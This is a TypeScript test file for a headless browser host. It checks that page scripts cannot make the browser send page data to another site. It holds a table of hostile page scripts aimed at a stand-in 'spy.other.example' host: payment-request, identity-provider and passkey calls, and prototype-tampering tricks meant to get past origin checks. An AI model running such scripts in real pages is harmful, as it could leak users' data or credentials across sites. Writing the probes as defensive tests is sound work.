import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { type BrowserHost, createBrowserHost } from '#main/browser/browser-host.ts';
import { selfSigned } from '#tests/chaos/steps/certificate.ts';
import { silentLog } from '#tests/fakes/silent-log.ts';
import { fewOf } from '#tests/setup/few-of.ts';

// Starting a browser on a busy machine takes longer than a test may.
vi.setConfig({ testTimeout: 90_000, hookTimeout: 90_000 });
const profileDir = mkdtempSync(join(tmpdir(), 'jobai-browser-'));
const arrived: string[] = [];
const server = createServer(selfSigned('errands'), (request, response) => {
  arrived.push(`${request.headers.host}${request.url}`);
  response.setHeader('content-type', 'text/html').end('<h1>Engineer</h1><input id="f">');
});
let host: BrowserHost;
beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  host = createBrowserHost({
    profileDir,
    settings: () => ({ executablePath: '', headless: true }),
    isInside: async () => false,
    log: silentLog,
    extraArgs: ['--ignore-certificate-errors', `--host-resolver-rules=MAP * 127.0.0.1:${port}`],
  });
});
beforeEach(() => {
  arrived.length = 0;
});
afterAll(async () => {
  await host.close();
  server.closeAllConnections();
  server.close();
  rmSync(profileDir, { recursive: true, force: true, maxRetries: 5 });
});

const pay = (then: string) =>
  `new PaymentRequest([{ supportedMethods: 'https://other.example/spy' }], { total: { label: 'a', amount: { currency: 'EUR', value: '1' } } }).${then}`;
const key = (rest: string) => `{ challenge: new Uint8Array(16), allowCredentials: [], ${rest} }`;
const made = (rp: string) =>
  `{ rp: ${rp}, user: { id: new Uint8Array(8), name: 'a', displayName: 'a' }, challenge: new Uint8Array(16), pubKeyCredParams: [{ type: 'public-key', alg: -7 }] }`;

/** What has the browser itself ask an address of another site, which has the data of the page in it. */
const ERRANDS: Readonly<Record<string, string>> = {
  'a way to pay': pay('canMakePayment()'),
  'a way to pay that is shown': pay('show()'),
  'a place to sign in': `navigator.credentials.get({ identity: { providers: [{ configURL: 'https://other.example/spy.json', clientId: 'x' }] } })`,
  'a passkey of another site': `navigator.credentials.get({ publicKey: ${key(`rpId: 'spy.other.example'`)} })`,
  'a new passkey of another site': `navigator.credentials.create({ publicKey: ${made(`{ id: 'spy.other.example', name: 'x' }`)} })`,
  'a passkey whose site changes as it is read': `(() => { let n = 0; return navigator.credentials.get({ publicKey: ${key(`get rpId() { return n++ ? 'spy.other.example' : 'own.example' }`)} }) })()`,
  'a passkey that a changed object names': `(() => { Object.defineProperty(Object.prototype, 'publicKey', { get: () => (${key(`rpId: 'spy.other.example'`)}) }); return navigator.credentials.get({}) })()`,
  'a passkey where the page changed what it is checked with': `(() => { String.prototype.endsWith = () => true; Reflect.apply = (f, self) => f.call(self, { publicKey: ${key(`rpId: 'spy.other.example'`)} }); Function.prototype.call = () => true; return navigator.credentials.get({ publicKey: ${key(`rpId: 'spy.other.example'`)} }) })()`,
  'a passkey by the browser’s own function': `(() => { let native; Object.prototype.get = (target) => { native = target; return undefined }; void navigator.credentials.get.name; delete Object.prototype.get; return (native ?? navigator.credentials.get).call(navigator.credentials, { publicKey: ${key(`rpId: 'spy.other.example'`)} }) })()`,
  'a passkey in a bare frame': `(() => { const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.navigator.credentials.get({ publicKey: ${key(`rpId: 'spy.other.example'`)} }) })()`,
  'word of a passkey': `PublicKeyCredential.signalUnknownCredential({ rpId: 'spy.other.example', credentialId: 'AAAA' })`,
};

const open = () =>
  host.open('https://own.example/', { label: 'errands', signal: new AbortController().signal, named: true });
/** What a page's script comes to within some moments. */
const inPage = (script: string) =>
  `Promise.race([(async () => { try { return String(await (${script})) } catch (thrown) { return thrown.name } })(), new Promise((resolve) => setTimeout(() => resolve('waits'), 1500))])`;

describe('what a page has the browser ask by itself', () => {
  it.each(fewOf(Object.entries(ERRANDS)))('brings nothing out: %s', async (_what, script) => {
    const tab = await open();
    try {
      await tab.page.mouse.click(20, 20);
      await tab.page.evaluate(inPage(script));
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(arrived.filter((address) => /other|spy/.test(address))).toEqual([]);
    } finally {
      await tab.close();
    }
  });

  it('a passkey of the page’s own site is asked for', async () => {
    const tab = await open();
    try {
      await tab.page.mouse.click(20, 20);
      const own = made(`{ id: 'own.example', name: 'x' }`);
      expect(await tab.page.evaluate(inPage(`navigator.credentials.create({ publicKey: ${own} })`))).toBe(
        'waits',
      );
    } finally {
      await tab.close();
    }
  });
});
